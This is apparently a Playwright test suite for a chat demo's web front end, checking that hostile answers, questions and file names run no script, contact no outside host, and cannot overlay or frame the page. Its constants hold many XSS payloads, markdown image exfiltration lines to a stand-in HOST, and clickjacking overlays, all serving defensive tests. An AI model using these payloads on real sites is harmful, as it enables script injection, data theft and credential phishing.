"""Hostile words in a real browser: in the answer, in the question, in a file's name. Nothing runs, nothing leaves."""

import re
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, expect

from qwen_demo.engines.scripted import Script
from tests.hostile import photo, saved
from tests.http.conftest import canary
from tests.ui.steps import ask, barrier, drawn, settled

__all__ = ["canary"]

END = "THE END"
# Each tells of its success by setting `window.pwned`, or by asking HOST for something.
HOSTILE = """
<script>window.pwned='script'</script>
<img src=x onerror="window.pwned='onerror'">
<svg/onload="window.pwned='svg'"><svg><animate onbegin="window.pwned='animate'" attributeName=x></svg>
<iframe srcdoc="<script>parent.pwned='iframe'</script>"></iframe><iframe src="http://HOST/frame"></iframe>
<details open ontoggle="window.pwned='toggle'">x</details><body onload="window.pwned='body'">
<a href="javascript:window.pwned='href'" id="trap">click</a> [click](javascript:window.pwned='md')
<form action="http://HOST/form"><input name=q autofocus onfocus="window.pwned='focus'"><button>go</button></form>
<object data="http://HOST/object"></object><embed src="http://HOST/embed"><base href="http://HOST/">
<meta http-equiv="refresh" content="0;url=http://HOST/refresh"><link rel=stylesheet href="http://HOST/css">
<style>@import url(http://HOST/import); body{background:url(http://HOST/background)}</style>
<div style="background:url(http://HOST/style);position:fixed;inset:0;z-index:99999">cover</div>
<video src="http://HOST/video" autoplay onerror="window.pwned='video'"></video><audio src="http://HOST/audio"></audio>
<math><mtext><table><mglyph><style><img src=x onerror="window.pwned='mutation'"></style></mglyph></table></mtext></math>

![stolen](http://HOST/image?words=secret) ![x](http://HOST/x "t") [![y](http://HOST/y)](http://HOST/z)
<img src="http://HOST/img?secret"><img srcset="http://HOST/srcset 2x"><image><source srcset="http://HOST/source"></image>

[a link](https://foreign.example/page) <https://foreign.example/auto>

```html
<script>window.pwned='code'</script>
```
```mermaid
graph TD; A["<img src=x onerror=window.pwned='mermaid'>"] --> B; click A "javascript:window.pwned='click'"
```
$\\href{javascript:window.pwned='latex'}{x}$ $$\\url{javascript:window.pwned='latex'}$$ $\\includegraphics{http://HOST/latex}$

THE END
"""


@pytest.fixture
def opened(profile):
    """Opens the page and writes down every address that the browser asks for."""
    pages = []

    def open_(app) -> Page:
        page = profile.new_page()
        pages.append(page)
        page.set_default_timeout(30_000)
        page.asked = []
        page.on("request", lambda request: page.asked.append(request.url))
        page.on("dialog", lambda dialog: page.asked.append(f"dialog://{dialog.message}"))
        page.goto(app.url)
        expect(page.locator("#question textarea")).to_be_visible()
        return page

    yield open_
    for page in pages:
        page.evaluate("localStorage.clear()")
        page.close()


def foreign(page: Page, app) -> list[str]:
    """What was asked of anybody else."""
    own = urlsplit(app.url).netloc
    return [
        url
        for url in page.asked
        if urlsplit(url).scheme in ("http", "https", "ws", "dialog") and urlsplit(url).netloc != own
    ]


def nothing_happened(page: Page, app, canary) -> None:
    barrier(page)
    assert page.evaluate("window.pwned") is None
    assert canary.visits == []
    assert page.url.rstrip("/") == app.url
    for tag in ("script", "iframe", "object", "embed", "base", "meta", "link"):
        assert page.locator(f"#chat .message {tag}").count() == 0, tag
    assert page.locator("#chat .message [onerror], #chat .message [onload], #chat .message [onfocus]").count() == 0
    assert page.locator("#chat .message a[href^='javascript' i]").count() == 0


def test_a_hostile_answer_runs_no_script_and_sends_nothing_away(app, opened, canary):
    words = re.findall(r"\S*\s+|\S+$", HOSTILE.replace("HOST", canary.host))
    app.engine.script = Script(words, gap_s=0.001)
    page = opened(app)
    ask(page, "go on")
    expect(page.locator("#chat .bot.message").first).to_contain_text(END)
    links = page.locator("#chat .message a[href^='https://foreign.example']")
    expect(links.first).to_be_visible()
    for link in links.all():
        assert link.get_attribute("target") == "_blank"
        assert "noopener" in (link.get_attribute("rel") or "")
    page.locator("#question textarea").click(timeout=10_000)  # nothing lies over the page
    nothing_happened(page, app, canary)
    page.evaluate("document.querySelectorAll('#chat .message form').forEach(form => form.submit())")
    barrier(page)
    assert canary.visits == []  # a form may stay, but the policy lets it send nothing
    # The browser may have wished to; the policy of the page held it back before a byte left.
    sent = [url for url in foreign(page, app) if urlsplit(url).netloc not in (canary.host, "foreign.example")]
    assert sent == []


# Each tries to lie over the page, to be taken for a part of it, or to ask for something in its name.
COVERS = r"""
<div style="position:fixed;inset:0;z-index:99999;background:red">COVER</div>
<div style="position:absolute;top:-900px;left:-900px;width:9000px;height:9000px;z-index:9">COVER</div>
<div style="margin:-2000px;padding:4000px;background:red">COVER</div>
<div style="transform:scale(50);position:sticky;top:0">COVER</div>
<a href="https://foreign.example/" style="position:fixed;inset:0;display:block">COVER</a>
<dialog open style="display:block !important;position:fixed;inset:0;width:100vw;height:100vh">COVER</dialog>
<div class="modal toast-wrap fixed inset-0 full-screen overlay">COVER</div>
<form><input type=password placeholder="Enter your key" style="display:block !important;position:fixed;inset:0">
<textarea style="display:block !important">x</textarea><select><option>x</option></select></form>
<a id="question" name="question">q</a><div id="chat">fake</div><div id="tabs" popover>fake</div>

![huge](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHdpZHRoPSI5OTk5IiBoZWlnaHQ9Ijk5OTkiLz4=)
<img style="width:9999px !important;height:9999px;position:fixed;top:0;left:0" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">

$$\rule{500em}{5em}$$ $$\kern-900em\rule{900em}{9em}$$ $$\smash{\raise{300pt}{\llap{\rule{2000pt}{2000pt}}}}$$

- [x] done

THE END
"""
# What lies at points outside of the conversation, as a visitor's pointer would hit it.
OUTSIDE = """() => {
  const chat = document.querySelector('#conversation > #chat, #chat').getBoundingClientRect(), hit = [];
  for (let x = 5; x < innerWidth; x += 40) for (let y = 5; y < innerHeight; y += 40) {
    const outside = x < chat.left || x > chat.right || y < chat.top || y > chat.bottom;
    if (outside && document.elementFromPoint(x, y)?.closest('#chat .md')) hit.push([x, y]);
  }
  return hit;
}"""


@pytest.mark.slow
def test_an_answer_cannot_lay_itself_over_the_page(app, opened):
    app.engine.script = Script(re.findall(r"\S*\s+|\S+$", COVERS), gap_s=0.001)
    page = opened(app)
    ask(page, "cover")
    answer = page.locator("#chat .bot.message").first
    expect(answer).to_contain_text(END)
    settled(page)
    drawn(page)
    assert page.evaluate("document.querySelectorAll('#chat').length") == 1
    assert page.evaluate("document.querySelectorAll('#chat .md :is([id], [name]):not(svg, svg *)').length") == 0
    assert page.evaluate(OUTSIDE) == []
    for field in answer.locator("input:not([type=checkbox]), textarea, select, dialog").all():
        expect(field).to_be_hidden()
    expect(answer.locator("input[type=checkbox]")).to_be_visible()
    for image in answer.locator("img").all():
        box = image.bounding_box() or {"width": 0, "height": 0}
        assert box["width"] <= answer.bounding_box()["width"] and box["height"] <= 300
    # The next answer is as it should be, below.
    app.engine.script = Script(["plain"])
    ask(page, "again")
    expect(page.locator("#chat .bot.message").nth(1)).to_contain_text("plain")


def test_a_hostile_question_is_as_harmless(app, opened, canary):
    app.engine.script = Script([END])
    page = opened(app)
    ask(page, HOSTILE.replace("HOST", canary.host))
    expect(page.locator("#chat .bot.message").first).to_contain_text(END)
    nothing_happened(page, app, canary)


@pytest.mark.slow
def test_a_hostile_file_name_is_as_harmless(app, opened, canary, tmp_path):
    app.engine.script = Script([END])
    page = opened(app)
    names = ["<img src=x onerror=pwned='name'>.png", "a' onerror='pwned=1' x='.png", '"><script>pwned=1<!--.png']
    files = []
    for name in names:
        data = saved(photo(), "PNG") if name != names[2] else b"no image"
        files.append({"name": name, "mimeType": "image/png", "buffer": data})
    page.locator("#question input[type=file]").set_input_files(files)
    expect(page.locator("#question img").nth(1)).to_be_visible()
    ask(page, "what?")
    expect(page.locator("#chat")).to_contain_text("⚠")
    nothing_happened(page, app, canary)


@pytest.mark.slow
def test_boxes_as_json_are_shown_as_text(app, opened, canary):
    boxes = '```json\n[{"bbox_2d": [1e999, -1, "a", null], "label": "<img src=x onerror=pwned=1>"}]\n```\nTHE END'
    app.engine.script = Script([boxes])
    page = opened(app)
    ask(page, "where?")
    expect(page.locator("#chat .bot.message").first).to_contain_text("<img src=x onerror=pwned=1>")
    nothing_happened(page, app, canary)


def test_nothing_is_asked_of_anybody_else_by_the_page_itself(app, opened):
    app.engine.script = Script([END])
    page = opened(app)
    ask(page, "hello")
    expect(page.locator("#chat .bot.message").first).to_contain_text(END)
    barrier(page)
    assert foreign(page, app) == []


def framed(page: Page, url: str):
    """The frame of a page that shows `url` in one, once it is there or was refused."""
    page.set_content("<iframe></iframe>")
    with page.expect_event("framenavigated", lambda frame: frame.parent_frame and frame.url != "about:blank"):
        page.evaluate("url => { document.querySelector('iframe').src = url; }", url)
    (inner,) = (frame for frame in page.frames if frame.parent_frame)
    return inner


def test_no_other_site_may_frame_the_page(app, profile, canary):
    page = profile.new_page()
    page.goto(canary.url)
    # A page that says nothing against it is shown, so the refusal below is this page's own.
    assert framed(page, f"{canary.url}/inner").url == f"{canary.url}/inner"
    refused = framed(page, app.url)
    assert refused.url == "chrome-error://chromewebdata/"
    assert refused.locator("#question").count() == 0
    page.close()
